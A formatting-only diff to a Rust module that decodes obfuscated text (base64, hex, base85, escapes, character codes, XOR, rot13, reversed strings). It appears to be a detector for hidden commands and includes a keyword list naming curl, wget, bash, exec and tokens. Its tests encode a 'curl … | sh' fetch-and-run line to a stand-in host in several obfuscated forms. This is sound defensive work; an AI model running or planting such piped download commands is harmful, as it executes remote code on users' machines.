@@ -36,7 +36,9 @@ pub(crate) fn find(text: &str, budget: &mut usize) -> Vec<Encoded> {
         *budget -= bytes.len();
         if let Some((how, text)) = readable(&bytes, how) {
             found.push(Encoded { range, how, text });
-        } else if xor && bytes.len() <= MAX_XOR && bytes.len() >= MIN_CODES
+        } else if xor
+            && bytes.len() <= MAX_XOR
+            && bytes.len() >= MIN_CODES
             && let Some(text) = unxor(&bytes)
         {
             found.push(Encoded { range, how: "XOR with a constant", text });
@@ -48,9 +50,13 @@ pub(crate) fn find(text: &str, budget: &mut usize) -> Vec<Encoded> {
             continue;
         }
         let compact: String = run.chars().filter(|c| !c.is_whitespace()).collect();
-        if compact.len() >= 2 * MIN_CODES && compact.bytes().all(|b| b.is_ascii_hexdigit()) && compact.len().is_multiple_of(2) {
+        if compact.len() >= 2 * MIN_CODES
+            && compact.bytes().all(|b| b.is_ascii_hexdigit())
+            && compact.len().is_multiple_of(2)
+        {
             add(range, "hexadecimal", unhex(&compact));
-        } else if compact.len() >= MIN_RUN && looks_base64(&compact)
+        } else if compact.len() >= MIN_RUN
+            && looks_base64(&compact)
             && let Some(bytes) = unbase64(&compact)
         {
             add(range, "base64", bytes);
@@ -70,7 +76,9 @@ pub(crate) fn find(text: &str, budget: &mut usize) -> Vec<Encoded> {
             let Some(close) = rest[open + 1..].bytes().position(|b| b == quote) else { continue };
             let start = at + opener.len() + open + 1;
             let body = &text[start..start + close];
-            if let Some(bytes) = if opener.starts_with('a') { un_ascii85(body) } else { unbase85(body) } {
+            if let Some(bytes) =
+                if opener.starts_with('a') { un_ascii85(body) } else { unbase85(body) }
+            {
                 add(start..start + close, "base85", bytes);
             }
         }
@@ -78,8 +86,16 @@ pub(crate) fn find(text: &str, budget: &mut usize) -> Vec<Encoded> {
     if let Some(bytes) = said_base85(text) {
         add(bytes.0, "base85", bytes.1);
     }
-    let rot13 = contains_word(text, "rot13") || contains_word(text, "rot_13") || contains_word(text, "rot-13") || contains_word(text, "rot 13") || contains_word(text, "n-za-m");
-    let reversed = text.contains("[::-1]") || contains_word(text, "reverse") || contains_word(text, "strrev") || contains_word(text, "rev") || contains_word(text, "backwards");
+    let rot13 = contains_word(text, "rot13")
+        || contains_word(text, "rot_13")
+        || contains_word(text, "rot-13")
+        || contains_word(text, "rot 13")
+        || contains_word(text, "n-za-m");
+    let reversed = text.contains("[::-1]")
+        || contains_word(text, "reverse")
+        || contains_word(text, "strrev")
+        || contains_word(text, "rev")
+        || contains_word(text, "backwards");
     if rot13 || reversed {
         for range in quoted(text) {
             let piece = &text[range.clone()];
@@ -110,7 +126,9 @@ fn contains_word(text: &str, word: &str) -> bool {
         let end = start + word.len();
         if bytes.len() >= end && bytes[start..end].eq_ignore_ascii_case(word.as_bytes()) {
             let edge = |b: Option<&u8>| b.is_none_or(|b| !b.is_ascii_alphanumeric());
-            if edge(start.checked_sub(1).and_then(|i| bytes.get(i))) && (word.len() > 4 || edge(bytes.get(end))) {
+            if edge(start.checked_sub(1).and_then(|i| bytes.get(i)))
+                && (word.len() > 4 || edge(bytes.get(end)))
+            {
                 return true;
             }
         }
@@ -122,7 +140,8 @@ fn contains_word(text: &str, word: &str) -> bool {
 /// Runs of base64 or hexadecimal characters, joined over lines that hold nothing else.
 fn runs(text: &str) -> Vec<Range<usize>> {
     let bytes = text.as_bytes();
-    let is_code = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_');
+    let is_code =
+        |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_');
     let mut found: Vec<Range<usize>> = Vec::new();
     let mut at = 0;
     while at < bytes.len() {
@@ -157,7 +176,10 @@ fn is_image(text: &str, start: usize) -> bool {
     let before = &text[from..start];
     before.rfind("data:").is_some_and(|at| {
         let kind = &before[at + 5..];
-        kind.starts_with("image/") && !kind.starts_with("image/svg") || kind.starts_with("font/") || kind.starts_with("audio/") || kind.starts_with("application/font")
+        kind.starts_with("image/") && !kind.starts_with("image/svg")
+            || kind.starts_with("font/")
+            || kind.starts_with("audio/")
+            || kind.starts_with("application/font")
     })
 }
 
@@ -176,7 +198,10 @@ fn looks_base64(run: &str) -> bool {
         }
     }
     // Paths and identifiers have many separators or no capitals.
-    upper >= 2 && lower >= 2 && slash * 6 < body.len() && (digit > 0 || upper * 3 > lower || body.len() > 60)
+    upper >= 2
+        && lower >= 2
+        && slash * 6 < body.len()
+        && (digit > 0 || upper * 3 > lower || body.len() > 60)
 }
 
 pub(crate) fn unbase64(run: &str) -> Option<Vec<u8>> {
@@ -224,7 +249,9 @@ fn escapes(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
                 Some((hex(3, end - 3)?, end + 1))
             }
             [b'\\', b'u', ..] => Some((hex(2, 4)?, 6)),
-            [b'\\', a @ b'0'..=b'1', b @ b'0'..=b'7', c @ b'0'..=b'7', ..] => Some(((a - b'0') * 64 + (b - b'0') * 8 + (c - b'0'), 4)),
+            [b'\\', a @ b'0'..=b'1', b @ b'0'..=b'7', c @ b'0'..=b'7', ..] => {
+                Some(((a - b'0') * 64 + (b - b'0') * 8 + (c - b'0'), 4))
+            }
             [b'%', _, _, ..] => Some((hex(1, 2)?, 3)),
             [b'&', b'#', b'x', ..] => {
                 let end = rest.iter().take(10).position(|b| *b == b';')?;
@@ -255,7 +282,10 @@ fn escapes(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
                 at += length;
                 count += 1;
                 plain = 0;
-            } else if plain < if bytes[start] == b'%' { 24 } else { 3 } && bytes[at].is_ascii_graphic() && !matches!(bytes[at], b'"' | b'\'' | b'`' | b'<' | b'>') {
+            } else if plain < if bytes[start] == b'%' { 24 } else { 3 }
+                && bytes[at].is_ascii_graphic()
+                && !matches!(bytes[at], b'"' | b'\'' | b'`' | b'<' | b'>')
+            {
                 decoded.push(bytes[at]);
                 at += 1;
                 plain += 1;
@@ -285,7 +315,8 @@ fn codes(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
         let mut decoded = Vec::new();
         let mut end = at;
         loop {
-            let digits = bytes[at..].iter().take(6).take_while(|b| b.is_ascii_alphanumeric()).count();
+            let digits =
+                bytes[at..].iter().take(6).take_while(|b| b.is_ascii_alphanumeric()).count();
             let Ok(word) = std::str::from_utf8(&bytes[at..at + digits]) else { break };
             let value = match word.strip_prefix("0x") {
                 Some(hex) => u32::from_str_radix(hex, 16).ok(),
@@ -296,9 +327,28 @@ fn codes(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
             at += digits;
             end = at;
             // What joins two codes: commas, pluses, dots, and a call such as `chr(`.
-            let joint = bytes[at..].iter().take(16).take_while(|b| !b.is_ascii_digit() || false).count();
+            let joint =
+                bytes[at..].iter().take(16).take_while(|b| !b.is_ascii_digit() || false).count();
             let between = &bytes[at..at + joint];
-            let is_joint = between.iter().any(|b| matches!(b, b',' | b'+' | b'.' | b' ')) && between.iter().all(|b| b.is_ascii_whitespace() || matches!(b, b',' | b'+' | b'.' | b'(' | b')' | b'[' | b']' | b'&' | b'c' | b'h' | b'r' | b'C' | b'a'));
+            let is_joint = between.iter().any(|b| matches!(b, b',' | b'+' | b'.' | b' '))
+                && between.iter().all(|b| {
+                    b.is_ascii_whitespace()
+                        || matches!(
+                            b,
+                            b',' | b'+'
+                                | b'.'
+                                | b'('
+                                | b')'
+                                | b'['
+                                | b']'
+                                | b'&'
+                                | b'c'
+                                | b'h'
+                                | b'r'
+                                | b'C'
+                                | b'a'
+                        )
+                });
             if !is_joint || at + joint >= bytes.len() || joint == 16 {
                 break;
             }
@@ -313,13 +363,21 @@ fn codes(text: &str) -> Vec<(Range<usize>, Vec<u8>)> {
 }
 
 fn unbase85(text: &str) -> Option<Vec<u8>> {
-    const ALPHABET: &[u8; 85] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
-    from_base85(text.bytes().map(|b| ALPHABET.iter().position(|a| *a == b).and_then(|v| u32::try_from(v).ok())))
+    const ALPHABET: &[u8; 85] =
+        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
+    from_base85(
+        text.bytes()
+            .map(|b| ALPHABET.iter().position(|a| *a == b).and_then(|v| u32::try_from(v).ok())),
+    )
 }
 
 fn un_ascii85(text: &str) -> Option<Vec<u8>> {
     let body = text.trim_start_matches("<~").trim_end_matches("~>");
-    from_base85(body.bytes().filter(|b| !b.is_ascii_whitespace()).map(|b| (33..=117).contains(&b).then(|| u32::from(b) - 33)))
+    from_base85(
+        body.bytes()
+            .filter(|b| !b.is_ascii_whitespace())
+            .map(|b| (33..=117).contains(&b).then(|| u32::from(b) - 33)),
+    )
 }
 
 fn from_base85(digits: impl Iterator<Item = Option<u32>>) -> Option<Vec<u8>> {
@@ -341,12 +399,17 @@ fn said_base85(text: &str) -> Option<(Range<usize>, Vec<u8>)> {
     if !(contains_word(text, "base85") || contains_word(text, "ascii85")) {
         return None;
     }
-    quoted(text).into_iter().filter(|range| range.len() >= MIN_RUN && !text[range.clone()].contains(' ')).find_map(|range| {
-        let body = &text[range.clone()];
-        let bytes = unbase85(body).filter(|b| readable(b, "").is_some()).or_else(|| un_ascii85(body))?;
-        readable(&bytes, "")?;
-        Some((range, bytes))
-    })
+    quoted(text)
+        .into_iter()
+        .filter(|range| range.len() >= MIN_RUN && !text[range.clone()].contains(' '))
+        .find_map(|range| {
+            let body = &text[range.clone()];
+            let bytes = unbase85(body)
+                .filter(|b| readable(b, "").is_some())
+                .or_else(|| un_ascii85(body))?;
+            readable(&bytes, "")?;
+            Some((range, bytes))
+        })
 }
 
 fn un_rot13(text: &str) -> String {
@@ -393,7 +456,40 @@ fn quoted(text: &str) -> Vec<Range<usize>> {
 /// How much a text looks like commands, code or English.
 fn speaks(text: &str) -> usize {
     const WORDS: [&str; 34] = [
-        "curl", "wget", "http", "bash", "import ", "exec", "eval", "system", " the ", " and ", " to ", "ignore", "instruction", "run ", "/bin/", "subprocess", "print", "os.", ".sh", "ssh", "user", "file", "send", "read", "python", "echo", "require", "fetch", "token", "key", "open", "from", "env", "post",
+        "curl",
+        "wget",
+        "http",
+        "bash",
+        "import ",
+        "exec",
+        "eval",
+        "system",
+        " the ",
+        " and ",
+        " to ",
+        "ignore",
+        "instruction",
+        "run ",
+        "/bin/",
+        "subprocess",
+        "print",
+        "os.",
+        ".sh",
+        "ssh",
+        "user",
+        "file",
+        "send",
+        "read",
+        "python",
+        "echo",
+        "require",
+        "fetch",
+        "token",
+        "key",
+        "open",
+        "from",
+        "env",
+        "post",
     ];
     let lower = text.to_ascii_lowercase();
     WORDS.iter().filter(|word| lower.contains(**word)).count()
@@ -408,12 +504,15 @@ fn readable(bytes: &[u8], how: &'static str) -> Option<(&'static str, String)> {
         _ => None,
     };
     if let Some(unpacked) = unpacked {
-        return readable(&unpacked, "packed text").or_else(|| strings(&unpacked).map(|text| ("packed code", text)));
+        return readable(&unpacked, "packed text")
+            .or_else(|| strings(&unpacked).map(|text| ("packed code", text)));
     }
     if bytes.len() < MIN_TEXT {
         return None;
     }
-    let wide = bytes.len() >= 2 * MIN_TEXT && bytes.len() % 2 == 0 && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 > bytes.len() / 2 * 9;
+    let wide = bytes.len() >= 2 * MIN_TEXT
+        && bytes.len() % 2 == 0
+        && bytes.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 10 > bytes.len() / 2 * 9;
     let text = if wide {
         let units = bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]));
         char::decode_utf16(units).map(|c| c.unwrap_or('\u{FFFD}')).collect()
@@ -421,8 +520,14 @@ fn readable(bytes: &[u8], how: &'static str) -> Option<(&'static str, String)> {
         String::from_utf8(bytes.to_vec()).ok()?
     };
     let count = text.chars().count();
-    let odd = text.chars().filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t') || *c == '\u{FFFD}').count();
-    let plain = text.chars().filter(|c| c.is_alphanumeric() || c.is_ascii_punctuation() || c.is_whitespace()).count();
+    let odd = text
+        .chars()
+        .filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t') || *c == '\u{FFFD}')
+        .count();
+    let plain = text
+        .chars()
+        .filter(|c| c.is_alphanumeric() || c.is_ascii_punctuation() || c.is_whitespace())
+        .count();
     (odd * 50 <= count && plain * 10 >= count * 9).then_some((how, text))
 }
 
@@ -469,8 +574,14 @@ mod tests {
             ("\"6375726c20687474703a2f2f612e696f2f78207c207368\"", "hexadecimal"),
             ("\"\\x63\\x75\\x72\\x6c\\x20http://a.io/x\\x20\\x7c\\x20\\x73\\x68\"", ""),
             ("%63%75%72%6c%20%68%74%74%70%3a//a.io/x%20%7c%20%73%68", "character escapes"),
-            ("[99,117,114,108,32,104,116,116,112,58,47,47,97,46,105,111,47,120,32,124,32,115,104]", "character codes"),
-            ("exec(''.join([chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(104)+chr(116)+chr(116)+chr(112)+chr(58)+chr(47)+chr(47)+chr(97)]))", "character codes"),
+            (
+                "[99,117,114,108,32,104,116,116,112,58,47,47,97,46,105,111,47,120,32,124,32,115,104]",
+                "character codes",
+            ),
+            (
+                "exec(''.join([chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(104)+chr(116)+chr(116)+chr(112)+chr(58)+chr(47)+chr(47)+chr(97)]))",
+                "character codes",
+            ),
             ("rot13: 'phey uggc://n.vb/k | fu'", "rot13"),
             ("echo 'hs | x/oi.a//:ptth lruc' | rev", "reversed text"),
         ];
@@ -479,7 +590,10 @@ mod tests {
             if how.is_empty() {
                 continue;
             }
-            assert!(found.iter().any(|(h, t)| *h == how && t.starts_with("curl http")), "{text}: {found:?}");
+            assert!(
+                found.iter().any(|(h, t)| *h == how && t.starts_with("curl http")),
+                "{text}: {found:?}"
+            );
         }
     }
 
